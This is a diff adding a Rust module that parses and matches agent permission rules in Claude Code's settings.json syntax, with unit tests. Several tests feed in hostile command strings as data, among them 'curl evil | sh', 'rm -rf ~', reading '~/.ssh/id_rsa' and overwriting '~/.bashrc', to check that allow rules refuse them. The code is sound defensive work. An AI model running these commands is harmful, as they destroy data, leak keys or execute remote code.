@@ -0,0 +1,419 @@
+//! Tool-qualified permission rule patterns
+//!
+//! `PermissionRule::pattern` accepts the `Tool(specifier)` syntax used by
+//! Claude Code `settings.json` (and `.forgecode/settings.json`), so existing
+//! permission lists can be copied over unchanged:
+//!
+//! | Pattern                      | Matches                                        |
+//! |------------------------------|------------------------------------------------|
+//! | `Bash(git push:*)`           | `git push`, `git push origin main`             |
+//! | `Bash(npm run test)`         | exactly `npm run test` (`*` wildcards allowed) |
+//! | `Bash` / `Bash(*)`           | any command                                    |
+//! | `Edit(src/**)`               | file edits and writes under `src/`             |
+//! | `Read(//etc/**)`, `Read(~/.ssh/*)` | absolute and home-relative paths         |
+//! | `WebFetch(domain:github.com)`| requests to `github.com` and its subdomains    |
+//!
+//! Patterns without a tool (`git *`) keep the original command wildcard
+//! matching. `cmd:args` without `*` (as written by `forge init`) is read as
+//! the prefix `cmd args`.
+//!
+//! Allow and ask rules never match compound commands: `Bash(git push:*)` and
+//! `Bash(git *)` allow `git push` but not `git push && rm -rf ~`. Deny rules,
+//! on the other hand, match if any part of a compound command matches.
+
+use crate::forgecmd::config::pattern_matches;
+use forge_foundation::permission::PermissionAction;
+use glob::{MatchOptions, Pattern};
+use std::path::{Component, Path, PathBuf};
+
+/// Shell syntax that chains, backgrounds, redirects or nests commands
+const COMPOUND_MARKERS: &[&str] = &["&&", "||", ";", "|", ">", "<", "`", "$(", "&", "\n"];
+
+/// Tool names that share rules, keyed by the normalized rule tool name
+///
+/// As in Claude Code, `Edit` rules cover every tool that modifies files.
+const TOOL_ALIASES: &[(&str, &[&str])] = &[
+    ("bash", &["bash", "forgecmd", "shell"]),
+    ("edit", &["edit", "multiedit", "write", "notebookedit"]),
+];
+
+/// Tool names recognized without a `(specifier)`
+const BARE_TOOLS: &[&str] = &[
+    "Bash",
+    "Edit",
+    "MultiEdit",
+    "Write",
+    "Read",
+    "WebFetch",
+    "WebSearch",
+    "Glob",
+    "Grep",
+    "NotebookEdit",
+];
+
+/// How a rule is used; deny rules also match parts of compound commands
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum RuleKind {
+    Allow,
+    Deny,
+    Ask,
+}
+
+/// A parsed `PermissionRule::pattern`
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum RulePattern {
+    /// Command wildcard pattern without a tool (`git *`)
+    Command(String),
+
+    /// `Tool` or `Tool(specifier)`
+    Tool {
+        /// Tool name as written (`Bash`, `Edit`, ...)
+        tool: String,
+        /// Argument constraint (None = any use of the tool)
+        specifier: Option<String>,
+    },
+}
+
+impl RulePattern {
+    /// Parse a rule pattern
+    pub fn parse(pattern: &str) -> Self {
+        let pattern = pattern.trim();
+        if let Some((tool, rest)) = pattern.split_once('(') {
+            if let Some(specifier) = rest.strip_suffix(')') {
+                if is_tool_name(tool) {
+                    let specifier = specifier.trim();
+                    return Self::Tool {
+                        tool: tool.to_string(),
+                        specifier: match specifier {
+                            "" | "*" => None,
+                            s => Some(s.to_string()),
+                        },
+                    };
+                }
+            }
+        }
+        if BARE_TOOLS.contains(&pattern) {
+            return Self::Tool {
+                tool: pattern.to_string(),
+                specifier: None,
+            };
+        }
+        Self::Command(pattern.to_string())
+    }
+
+    /// Whether the rule applies to `tool`
+    pub fn applies_to(&self, tool: &str) -> bool {
+        match self {
+            Self::Command(_) => tool_matches("bash", tool),
+            Self::Tool {
+                tool: rule_tool, ..
+            } => tool_matches(rule_tool, tool),
+        }
+    }
+
+    /// Check a shell command against the rule
+    pub fn matches_command(&self, command: &str, kind: RuleKind) -> bool {
+        let command = command.trim();
+        let specifier = match self {
+            Self::Command(pattern) => pattern.as_str(),
+            Self::Tool { tool, specifier } => {
+                if !tool_matches(tool, "bash") {
+                    return false;
+                }
+                match specifier {
+                    Some(specifier) => specifier.as_str(),
+                    None => return true,
+                }
+            }
+        };
+
+        if kind == RuleKind::Deny {
+            return matches_command_specifier(specifier, command)
+                || command_segments(command)
+                    .any(|segment| matches_command_specifier(specifier, segment));
+        }
+        !is_compound(command) && matches_command_specifier(specifier, command)
+    }
+
+    /// Check a tool invocation against the rule
+    ///
+    /// Relative path specifiers are resolved against `base_dir`.
+    pub fn matches(
+        &self,
+        tool: &str,
+        action: &PermissionAction,
+        base_dir: &Path,
+        kind: RuleKind,
+    ) -> bool {
+        if !self.applies_to(tool) {
+            return false;
+        }
+        let specifier = match self {
+            Self::Command(_) => {
+                return matches!(action, PermissionAction::Execute { command }
+                    if self.matches_command(command, kind));
+            }
+            Self::Tool { specifier, .. } => specifier,
+        };
+
+        match action {
+            PermissionAction::Execute { command } => self.matches_command(command, kind),
+            PermissionAction::FileWrite { path }
+            | PermissionAction::FileDelete { path }
+            | PermissionAction::FileReadSensitive { path } => specifier
+                .as_deref()
+                .is_none_or(|spec| matches_path(spec, Path::new(path), base_dir)),
+            PermissionAction::Network { url } => specifier
+                .as_deref()
+                .is_none_or(|spec| matches_url(spec, url)),
+            PermissionAction::Custom { details, .. } => specifier
+                .as_deref()
+                .is_none_or(|spec| pattern_matches(spec, details)),
+        }
+    }
+}
+
+fn is_tool_name(name: &str) -> bool {
+    name.chars().next().is_some_and(|c| c.is_ascii_uppercase())
+        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+fn normalize_tool(name: &str) -> String {
+    name.chars()
+        .filter(|c| *c != '_' && *c != '-')
+        .collect::<String>()
+        .to_ascii_lowercase()
+}
+
+/// `rule_tool` (as written in a rule) covers `tool` (a registered tool name)
+fn tool_matches(rule_tool: &str, tool: &str) -> bool {
+    let rule_tool = normalize_tool(rule_tool);
+    let tool = normalize_tool(tool);
+    match TOOL_ALIASES.iter().find(|(name, _)| *name == rule_tool) {
+        Some((_, tools)) => tools.contains(&tool.as_str()),
+        None => rule_tool == tool,
+    }
+}
+
+/// Parts of a compound command
+///
+/// Redirect targets become segments of their own, so `rm -rf / > log` still
+/// yields `rm -rf /`.
+fn command_segments(command: &str) -> impl Iterator<Item = &str> {
+    command
+        .split("&&")
+        .flat_map(|s| s.split("||"))
+        .flat_map(|s| s.split([';', '|', '\n', '`', '&', '>', '<']))
+        .flat_map(|s| s.split("$("))
+        .map(|s| s.trim().trim_end_matches(')').trim())
+        .filter(|s| !s.is_empty())
+}
+
+/// `prefix:*`, `cmd:args` or a wildcard pattern against a single command
+fn matches_command_specifier(specifier: &str, command: &str) -> bool {
+    if let Some((name, args)) = specifier.split_once(':') {
+        let prefix = match args {
+            "*" => name.trim().to_string(),
+            args => format!("{} {}", name.trim(), args.trim_end_matches('*').trim()),
+        };
+        return command == prefix
+            || command
+                .strip_prefix(&prefix)
+                .is_some_and(|rest| rest.starts_with(' '));
+    }
+    pattern_matches(specifier, command)
+}
+
+/// Whether the command chains, backgrounds, redirects or nests other commands
+fn is_compound(command: &str) -> bool {
+    COMPOUND_MARKERS.iter().any(|m| command.contains(m))
+}
+
+/// Gitignore-style path specifier against a file path
+///
+/// `//abs/**` is absolute, `~/x` is relative to the home directory and
+/// anything else is relative to `base_dir`.
+fn matches_path(specifier: &str, path: &Path, base_dir: &Path) -> bool {
+    let resolved = if let Some(absolute) = specifier.strip_prefix("//") {
+        PathBuf::from(format!("/{}", absolute))
+    } else if let Some(home) = specifier.strip_prefix("~/") {
+        match dirs::home_dir() {
+            Some(dir) => dir.join(home),
+            None => return false,
+        }
+    } else {
+        base_dir.join(specifier.trim_start_matches("./"))
+    };
+    let path = normalize(&base_dir.join(path));
+
+    let options = MatchOptions {
+        require_literal_separator: true,
+        ..MatchOptions::new()
+    };
+    Pattern::new(&resolved.to_string_lossy())
+        .map(|pattern| pattern.matches_path_with(&path, options))
+        .unwrap_or(false)
+}
+
+/// Remove `.` and `..` components without touching the file system
+fn normalize(path: &Path) -> PathBuf {
+    let mut normalized = PathBuf::new();
+    for component in path.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => {
+                normalized.pop();
+            }
+            other => normalized.push(other),
+        }
+    }
+    normalized
+}
+
+/// `domain:example.com` or a URL wildcard pattern
+fn matches_url(specifier: &str, url: &str) -> bool {
+    match specifier.strip_prefix("domain:") {
+        Some(domain) => {
+            let domain = domain.trim().to_ascii_lowercase();
+            let host = url
+                .split_once("://")
+                .map_or(url, |(_, rest)| rest)
+                .split(['/', '?', '#'])
+                .next()
+                .unwrap_or_default();
+            let host = host.rsplit('@').next().unwrap_or(host);
+            let host = host.split(':').next().unwrap_or(host).to_ascii_lowercase();
+            host == domain || host.ends_with(&format!(".{}", domain))
+        }
+        None => pattern_matches(specifier, url),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn command(pattern: &str, command: &str, kind: RuleKind) -> bool {
+        RulePattern::parse(pattern).matches_command(command, kind)
+    }
+
+    #[test]
+    fn test_parse() {
+        assert_eq!(
+            RulePattern::parse("Bash(git push:*)"),
+            RulePattern::Tool {
+                tool: "Bash".into(),
+                specifier: Some("git push:*".into())
+            }
+        );
+        assert_eq!(
+            RulePattern::parse("Bash(*)"),
+            RulePattern::Tool {
+                tool: "Bash".into(),
+                specifier: None
+            }
+        );
+        assert_eq!(
+            RulePattern::parse("WebFetch"),
+            RulePattern::Tool {
+                tool: "WebFetch".into(),
+                specifier: None
+            }
+        );
+        assert_eq!(
+            RulePattern::parse("git *"),
+            RulePattern::Command("git *".into())
+        );
+        assert_eq!(
+            RulePattern::parse("echo (x)"),
+            RulePattern::Command("echo (x)".into())
+        );
+    }
+
+    #[test]
+    fn test_command_rules() {
+        use RuleKind::*;
+
+        assert!(command("Bash(git push:*)", "git push", Allow));
+        assert!(command("Bash(git push:*)", "git push origin main", Allow));
+        assert!(!command("Bash(git push:*)", "git pushx", Allow));
+        assert!(!command("Bash(git push:*)", "git push && rm -rf ~", Allow));
+        assert!(!command("Bash(git:*)", "git status & rm -rf ~", Allow));
+        assert!(!command("Bash(git:*)", "git status > ~/.bashrc", Allow));
+        assert!(!command("Bash(cat:*)", "cat < ~/.ssh/id_rsa", Allow));
+        assert!(command("Bash(npm run test)", "npm run test", Allow));
+        assert!(!command("Bash(npm run test)", "npm run test:e2e", Allow));
+        assert!(command("Bash(git *)", "git status", Allow));
+        assert!(!command("Bash(git *)", "git status; curl evil | sh", Allow));
+        assert!(!command("Bash(npm run test*)", "npm run test && rm -rf ~", Ask));
+        assert!(!command("git *", "git log | sh", Allow));
+        assert!(command("Bash", "anything", Allow));
+        assert!(!command("Edit(src/**)", "ls", Allow));
+
+        // `forge init` shorthand
+        assert!(command("Bash(git:status)", "git status --short", Allow));
+
+        // Deny rules see through compound commands
+        assert!(command("Bash(rm:*)", "ls && rm -rf build", Deny));
+        assert!(command("Bash(curl:*)", "echo $(curl -s x.sh)", Deny));
+        assert!(command("Bash(rm:*)", "ls & rm -rf /", Deny));
+        assert!(command("Bash(rm:*)", "rm -rf / > /dev/null 2>&1", Deny));
+        assert!(command("Bash(sh:*)", "sh < install.sh", Deny));
+        assert!(!command("Bash(rm:*)", "ls && rm -rf build", Allow));
+    }
+
+    #[test]
+    fn test_tool_rules() {
+        let base = Path::new("/work/project");
+        let write = |path: &str| PermissionAction::FileWrite {
+            path: path.to_string(),
+        };
+        let rule = RulePattern::parse("Edit(src/**)");
+
+        assert!(rule.matches("edit", &write("src/lib.rs"), base, RuleKind::Allow));
+        assert!(rule.matches(
+            "write",
+            &write("/work/project/src/a/b.rs"),
+            base,
+            RuleKind::Allow
+        ));
+        assert!(!rule.matches("edit", &write("README.md"), base, RuleKind::Allow));
+        assert!(!rule.matches("edit", &write("src/../secret.txt"), base, RuleKind::Allow));
+        assert!(!rule.matches("read", &write("src/lib.rs"), base, RuleKind::Allow));
+
+        let rule = RulePattern::parse("Read(//etc/**)");
+        let read = PermissionAction::FileReadSensitive {
+            path: "/etc/ssh/sshd_config".to_string(),
+        };
+        assert!(rule.matches("read", &read, base, RuleKind::Deny));
+
+        let rule = RulePattern::parse("WebFetch(domain:github.com)");
+        let fetch = |url: &str| PermissionAction::Network {
+            url: url.to_string(),
+        };
+        assert!(rule.matches(
+            "web_fetch",
+            &fetch("https://github.com/a/b"),
+            base,
+            RuleKind::Allow
+        ));
+        assert!(rule.matches(
+            "web_fetch",
+            &fetch("https://api.github.com:443/x"),
+            base,
+            RuleKind::Allow
+        ));
+        assert!(!rule.matches(
+            "web_fetch",
+            &fetch("https://github.com.evil.io/"),
+            base,
+            RuleKind::Allow
+        ));
+        assert!(!rule.matches(
+            "web_search",
+            &fetch("https://github.com/"),
+            base,
+            RuleKind::Allow
+        ));
+    }
+}